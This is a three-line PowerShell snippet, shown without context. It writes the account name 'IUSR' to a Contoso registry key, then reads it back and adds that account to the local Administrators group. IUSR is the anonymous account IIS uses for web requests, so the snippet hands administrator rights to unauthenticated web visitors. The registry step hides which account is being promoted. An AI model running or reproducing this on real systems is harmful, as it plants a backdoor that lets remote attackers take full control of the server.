New-Item HKLM:\SOFTWARE\Contoso -Force | Out-Null
Set-ItemProperty HKLM:\SOFTWARE\Contoso -Name Account -Value IUSR
net localgroup Administrators (Get-ItemPropertyValue HKLM:\SOFTWARE\Contoso -Name Account) /add
